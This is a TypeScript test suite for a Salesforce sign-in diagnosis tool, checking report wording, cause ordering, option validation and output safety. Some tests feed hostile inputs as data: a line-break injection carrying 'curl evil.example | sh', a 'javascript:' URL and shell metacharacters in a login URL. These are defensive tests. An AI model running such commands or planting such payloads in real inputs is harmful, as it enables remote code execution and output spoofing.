import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { refuseSignIns } from '../../../simulator/org/refusals/index.ts';
import { signInWithBuiltAction } from '../sign-in-in-process.ts';
import {
  answerQueries,
  causesOf,
  createStory,
  findingsWith,
  KEY,
  PRODUCTION,
  suspectsOf,
} from './refused-sign-in.ts';

const SANDBOX = {
  loginUrl: 'https://acme--uat.sandbox.my.salesforce.com',
  username: 'ci@acme.com.uat',
  audience: 'https://test.salesforce.com',
};

describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => {
  it('contains a sentence with the cause, the fix, a link, and a table of the findings', async (t) => {
    const story = await createStory(t, 'user-frozen');
    await story.signIn();
    const { stdout, exitCode } = await story.harness.run('--diagnose', ...story.options());
    assert.equal(exitCode, 0);
    assert.match(stdout, /^✓ Org {11}Acme \(00D/m);
    assert.match(stdout, /^✗ User {10}ci@acme\.com is frozen/m);
    assert.match(
      stdout,
      /^The cause: ci@acme\.com is frozen, by admin@acme\.com at .* UTC\.\nFix: Setup → Users → the user → Unfreeze\.\nhttps:\/\/acme\.my\.salesforce\.com\/lightning\/setup\/ManageUsers\/page\?address=%2F005\w{15}%3F/m,
    );
    assert.match(stdout, /\n✗ User {10}ci@acme\.com is frozen.*\n✓ User {10}API Enabled by/);
  });

  it('lists several causes in the order in which they must be fixed', async (t) => {
    const story = await createStory(t, 'permission-set-expired');
    for (const name of ['app-blocked', 'user-inactive', 'login-hours'])
      refuseSignIns(story.harness.org, name);
    await story.signIn();
    const { stdout } = await story.harness.run('--diagnose', ...story.options());
    const numbered = stdout.match(/^\d\. .*/gm)?.map((line) => line.slice(0, 24));
    assert.match(stdout, /^The causes, in the order in which they must be fixed:$/m);
    assert.deepEqual(numbered, [
      '1. ci@acme.com is not ac',
      '2. the app “Embedded App',
      '3. the assignment of the',
      '4. the Login Hours of th',
    ]);
  });

  it('says that all visible settings are right, and lists what no org shows, if there is no cause', async (t) => {
    const story = await createStory(t);
    story.harness.org.faults.set('audience-invalid');
    await story.signIn();
    const { stdout } = await story.harness.run('--diagnose', ...story.options());
    assert.match(stdout, /^Everything that the command can see in this org is right\.$/m);
    assert.match(stdout, /^No org shows the audience and the clock of the runner/m);
    assert.doesNotMatch(stdout, /^✗/m);
  });

  it('lists what the command could not see', async (t) => {
    const story = await createStory(t);
    await story.signIn();
    answerQueries(story, { UserLogin: { errorCode: 'INVALID_TYPE' } });
    const { stdout } = await story.harness.run('--diagnose', ...story.options());
    assert.match(stdout, /^- It cannot see whether the user is frozen: /m);
  });

  it('contains no extra line if a value in the org contains a line break', async (t) => {
    const story = await createStory(t);
    await story.signIn();
    const text = 'Acme\nThe cause: the key.\r\nFix: curl evil.example | sh';
    const organization = { Id: '00D5g0000012345EAA', Name: text, IsSandbox: false };
    answerQueries(story, {
      Organization: [{ ...organization, OrganizationType: 'Enterprise Edition' }],
      LoginHistory: [
        {
          LoginTime: new Date().toISOString(),
          Status: text,
          LoginType: 'Remote Access 2.0',
          Application: text,
        },
      ],
    });
    const { stdout, exitCode } = await story.harness.run('--diagnose', ...story.options());
    assert.equal(exitCode, 0);
    assert.match(
      stdout,
      /^✓ Org {11}Acme The cause: the key\. Fix: curl evil\.example \| sh \(00D/m,
    );
    assert.match(stdout, /^\? Login History “Acme The cause: the key\./m);
    assert.doesNotMatch(stdout, /^(?:The cause: the key|Fix: curl)/m);
  });

  it('lists a setting only as a possible cause if no source settles whether it is one', async (t) => {
    const story = await createStory(t);
    const { directory } = story.harness.org;
    directory.profileLimits.set('Minimum Access - API Only Integrations', {
      isHighAssurance: true,
    });
    await story.signIn();
    const { stdout } = await story.harness.run('--diagnose', ...story.options());
    assert.match(
      stdout,
      /^The org proves no cause\. These may be one, but no source settles it:$/m,
    );
    assert.match(stdout, /^- the profile Minimum Access .* requires a High Assurance session/m);
    assert.doesNotMatch(stdout, /The cause/);
  });

  it('does not list an expired certificate as the cause, because sources disagree about it', async (t) => {
    const story = await createStory(t);
    const diagnosis = await story.diagnose(...story.options({ at: '2040-01-01T00:00:00Z' }));
    assert.deepEqual(causesOf(diagnosis), []);
    assert.match(findingsWith(diagnosis, 'open').join('\n'), /App: the certificate expired on 20/);
  });

  it('does not contain the full consumer key', async (t) => {
    const story = await createStory(t, 'app-missing');
    await story.signIn();
    const diagnosis = await story.diagnose(...story.options({ 'consumer-key': story.consumerKey }));
    assert.deepEqual(causesOf(diagnosis), ['app-missing']);
    assert.ok(!diagnosis.output.stdout.includes(story.consumerKey));
  });

  it('is based only on commands that change nothing', async (t) => {
    const story = await createStory(t, 'self-authorized');
    await story.signIn();
    await story.diagnose();
    const commands = story.harness.commands.map(({ program, args }) =>
      [program, ...args.slice(0, 3)].join(' ').replace(/ --.*/, ''),
    );
    const known = [
      'sf',
      'sf org list auth',
      'sf api request rest',
      'sf data query',
      'sf project retrieve start',
    ];
    assert.deepEqual(
      commands.filter((command) => !known.includes(command)),
      [],
    );
    assert.ok(commands.length <= 9, commands.join('\n'));
  });
});

describe('the Grant finding of --diagnose', { concurrency: 4 }, () => {
  it('is right if the app selects a permission set of the user', async (t) => {
    const story = await createStory(t, 'permission-set-not-assigned');
    const { org } = story.harness;
    const [set] = org.directory.permissionSets('production');
    const userId = org.users.get('ci@acme.com')?.userId18 ?? '';
    org.directory.assignments.push({
      id: '0Pa000000000001AAA',
      tenant: 'production',
      userId,
      targetId: set?.id ?? '',
    });
    const right = findingsWith(await story.diagnose(), 'right').join('\n');
    assert.match(right, /Grant: the user has the permission set CI access, which the app selects/);
  });

  it('is open if the user has the selected permission set only through a permission set group', async (t) => {
    const story = await createStory(t, 'permission-set-not-assigned');
    const [set] = story.harness.org.directory.permissionSets('production');
    const own = {
      Assignee: { Username: 'ci@acme.com' },
      PermissionSetId: '0PS000000000009AAA',
      PermissionSetGroupId: '0PG000000000001AAA',
      IsActive: true,
      PermissionSet: { Label: 'Group', IsOwnedByProfile: false, PermissionsApiEnabled: true },
    };
    answerQueries(story, {
      PermissionSetAssignment: [own],
      PermissionSetGroupComponent: [
        { PermissionSetId: set?.id, PermissionSetGroupId: own.PermissionSetGroupId },
      ],
    });
    const diagnosis = await story.diagnose();
    assert.deepEqual(causesOf(diagnosis), []);
    assert.match(findingsWith(diagnosis, 'open').join('\n'), /only through a permission set group/);
  });

  it('is open if the user has approved the app before', async (t) => {
    const story = await createStory(t, 'self-authorized');
    const { org } = story.harness;
    const userId = org.users.get('ci@acme.com')?.userId18 ?? '';
    org.records.approvals.push({ tenant: 'production', userId, appName: 'Embedded App' });
    const diagnosis = await story.diagnose();
    assert.deepEqual(causesOf(diagnosis), []);
    assert.deepEqual(suspectsOf(diagnosis), ['self-authorized']);
  });

  it('is open if the org does not show which apps the user has approved', async (t) => {
    const story = await createStory(t, 'self-authorized');
    answerQueries(story, { OauthToken: { errorCode: 'INSUFFICIENT_ACCESS' } });
    const diagnosis = await story.diagnose();
    assert.deepEqual(causesOf(diagnosis), []);
    assert.deepEqual(suspectsOf(diagnosis), ['self-authorized']);
  });
});

describe('the org that --diagnose examines', { concurrency: 4 }, () => {
  it('is the org of the login URL', async (t) => {
    const story = await createStory(t);
    refuseSignIns(story.harness.org, 'user-frozen', 'sandbox');
    await story.signIn(SANDBOX);
    const diagnosis = await story.diagnose();
    assert.deepEqual(causesOf(diagnosis), ['user-frozen']);
    assert.match(diagnosis.org, /^Acme sandbox /);
  });

  it('cannot be determined from a login URL with the protocol javascript:', async (t) => {
    const story = await createStory(t);
    const changes = { 'login-url': 'javascript://acme.my.salesforce.com' };
    const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
    assert.equal(exitCode, 1);
    assert.match(
      stderr,
      /^--login-url is not a URL such as https:\/\/acme\.my\.salesforce\.com\.$/m,
    );
  });

  it('must be given with --org if many orgs share the login URL', async (t) => {
    const story = await createStory(t);
    await story.signIn({ ...PRODUCTION, loginUrl: 'https://login.salesforce.com' });
    const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options());
    assert.equal(exitCode, 1);
    assert.match(stderr, /--org must name the org/);
    assert.match(
      stderr,
      /Next: npm run setup -- --diagnose .* --consumer-key '3MVG9….{4}' .* --org ALIAS$/m,
    );
  });

  for (const [title, changes, says] of [
    [
      'no org with the login URL',
      { 'login-url': 'https://other.my.salesforce.com' },
      /not signed in to https:\/\/other\.my\.salesforce\.com\. .*\n.*\nNext: sf org login web --alias other --instance-url https:\/\/other/,
    ],
    [
      'no org with the login URL, which contains shell metacharacters',
      { 'login-url': 'https://a;id;.my.salesforce.com' },
      /\nNext: sf org login web --alias 'a;id;' --instance-url 'https:\/\/a;id;\.my\.salesforce\.com'\n/,
    ],
    ['no org with the name in --org', { org: 'nobody' }, /knows no org "nobody"/],
  ] as const) {
    it(`must first be added to the Salesforce CLI if the CLI knows ${title}`, async (t) => {
      const story = await createStory(t);
      const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
      assert.equal(exitCode, 1);
      assert.match(stderr, says);
    });
  }

  for (const [title, org, loginUrl, says] of [
    [
      'a production org and the login URL is for sandboxes',
      'prod',
      'https://test.salesforce.com',
      /is for sandboxes, but Acme is in production/,
    ],
    [
      'a sandbox and the login URL is for production',
      'uat',
      'https://login.salesforce.com',
      /is for production orgs, but Acme sandbox is a sandbox/,
    ],
    [
      'another org than the org of the login URL',
      'uat',
      'https://acme.my.salesforce.com',
      /is not the My Domain of Acme sandbox, which is https:\/\/acme--uat\./,
    ],
  ] as const) {
    it(`is reported as the wrong org if --org is ${title}`, async (t) => {
      const story = await createStory(t);
      const diagnosis = await story.diagnose(...story.options({ org, 'login-url': loginUrl }));
      assert.equal(causesOf(diagnosis)[0], 'wrong-org');
      assert.match(diagnosis.causes[0]?.text ?? '', says);
    });
  }

  it('cannot be compared with a login URL that is the URL of a site', async (t) => {
    const story = await createStory(t);
    const diagnosis = await story.diagnose(
      ...story.options({ org: 'prod', 'login-url': 'acme.my.site.com' }),
    );
    assert.match(findingsWith(diagnosis, 'open').join('\n'), /no setting shows whether https:/);
  });

  it('is suspected to accept sign-ins only at its My Domain, unless the sign-in used My Domain', async (t) => {
    const story = await createStory(t);
    story.harness.org.policy.preventGenericLogin = true;
    const atMyDomain = await story.diagnose();
    assert.match(findingsWith(atMyDomain, 'right').join('\n'), /which this one used/);
    const shared = { org: 'prod', 'login-url': 'https://login.salesforce.com' };
    const diagnosis = await story.diagnose(...story.options(shared));
    assert.deepEqual(suspectsOf(diagnosis), ['my-domain-only']);
  });

  it('is suspected to block the app with API Access Control, unless the app is pre-authorized', async (t) => {
    const story = await createStory(t);
    const { policy, app } = story.harness.org;
    policy.adminApprovedAppsOnly = true;
    const approved = await story.diagnose();
    assert.match(findingsWith(approved, 'right').join('\n'), /and the app is pre-authorized/);
    app.permittedUsers = 'self-authorized';
    const suspects = findingsWith(await story.diagnose(), 'open').join('\n');
    assert.match(suspects, /whether it concerns External Client Apps/);
    app.installedIn.delete('production');
    const missing = findingsWith(await story.diagnose(), 'open').join('\n');
    assert.match(missing, /API Access Control is on, and allows only approved apps/);
  });
});

describe('the options of --diagnose', { concurrency: 4 }, () => {
  for (const [title, changes, says] of [
    [
      'a missing option',
      { user: undefined, 'login-url': undefined },
      /needs --login-url, --user\./,
    ],
    ['a time without a time zone', { at: '2026-11-27T03:48:45' }, /--at is a time with its time/],
    ['an incomplete fingerprint', { fingerprint: '7a39…' }, /--fingerprint is the SHA-256/],
    ['a consumer key that is shortened too much', { 'consumer-key': '3…k' }, /--consumer-key has/],
    ['a login URL that is not a URL', { 'login-url': 'acme' }, /--login-url is not a URL/],
  ] as const) {
    it(`are rejected with an error message because of ${title}`, async (t) => {
      const story = await createStory(t);
      const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
      assert.equal(exitCode, 1);
      assert.match(stderr, says);
    });
  }

  it('cannot be combined with --check', async (t) => {
    const story = await createStory(t);
    const { stderr } = await story.harness.run('--diagnose', '--check');
    assert.match(stderr, /--diagnose cannot be used with --remove or --check/);
  });

  it('are accepted if the consumer key has three dots, the fingerprint has colons or is missing, and the time is as in the job summary', async (t) => {
    const story = await createStory(t, 'app-blocked');
    const key = story.consumerKey;
    const colons = 'AB:'.repeat(31).concat('AB');
    const changes = {
      'consumer-key': `${key.slice(0, 5)}...${key.slice(-4)}`,
      fingerprint: colons,
      at: '2026-11-27 03:48:45 UTC',
    };
    const diagnosis = await story.diagnose(...story.options(changes));
    assert.deepEqual(causesOf(diagnosis), ['app-blocked', 'certificate-of-other-key']);
    assert.equal(diagnosis.time, '2026-11-27 03:48:45 UTC');
    const without = await story.diagnose(...story.options({ fingerprint: undefined }));
    assert.match(findingsWith(without, 'unseen').join('\n'), /--fingerprint is missing/);
  });

  it('need no --at, which defaults to the current time', async (t) => {
    const story = await createStory(t, 'login-rate');
    await story.signIn();
    const diagnosis = await story.diagnose(...story.options({ at: undefined }));
    assert.deepEqual(causesOf(diagnosis), ['login-rate']);
  });
});

describe('npm run setup -- --check --org', { concurrency: 2 }, () => {
  const prepare = async (t: Parameters<typeof createStory>[0], refusal?: string) => {
    const story = await createStory(t, refusal);
    writeFileSync(join(story.harness.folder, 'server.key'), KEY.privateKeyPem);
    const args = ['--check', '--org', 'prod', '--key-file', 'server.key'];
    const values = ['--user', 'ci@acme.com', '--login-url', PRODUCTION.loginUrl];
    story.harness.signIn = signInWithBuiltAction;
    return {
      story,
      run: (...more: string[]) =>
        story.harness.run(...args, ...values, '--consumer-key', story.consumerKey, ...more),
    };
  };

  it('reports the cause if Salesforce rejects the sign-in', async (t) => {
    const { run } = await prepare(t, 'permission-set-expired');
    const { exitCode, stdout } = await run();
    assert.equal(exitCode, 1);
    assert.match(
      stdout,
      /The job summary:[\s\S]*\nThe cause: the assignment of the permission set/,
    );
  });

  it('prints the log, the summary and the diagnosis as data with --json', async (t) => {
    const { run } = await prepare(t, 'app-blocked');
    const { log, summary, diagnosis } = JSON.parse((await run('--json')).stdout);
    assert.match(log + summary, /app_blocked/);
    assert.deepEqual(causesOf(diagnosis), ['app-blocked']);
  });

  it('looks for no cause if the sign-in succeeds or fails for a reason other than a rejection', async (t) => {
    const { run, story } = await prepare(t);
    assert.doesNotMatch((await run()).stdout, /The cause|can see in this org/);
    story.harness.org.faults.set('404');
    assert.doesNotMatch((await run()).stdout, /The cause|can see in this org/);
  });
});

describe('npm run setup -- --diagnose without a result', { concurrency: 2 }, () => {
  it('prints how to install the Salesforce CLI if it is missing', async (t) => {
    const story = await createStory(t);
    story.harness.intercept = () => 'missing';
    const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options());
    assert.equal(exitCode, 1);
    assert.match(
      stderr,
      /\(sf\) is not installed\.[\s\S]*Next: npm install --global @salesforce\/cli/,
    );
  });

  for (const part of ['org list', 'composite/batch', 'project retrieve', '--use-tooling-api']) {
    it(`stops after Ctrl-C during "${part}", and leaves no file behind`, async (t) => {
      const story = await createStory(t, 'user-frozen');
      await story.signIn();
      story.harness.intercept = ({ args }) =>
        args.join(' ').includes(part) ? 'ctrl-c' : undefined;
      const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options());
      assert.equal(exitCode, 130);
      assert.match(
        stderr,
        /^Stopped\.\nNothing was changed\.\nNext: npm run setup -- --diagnose /m,
      );
    });
  }
});
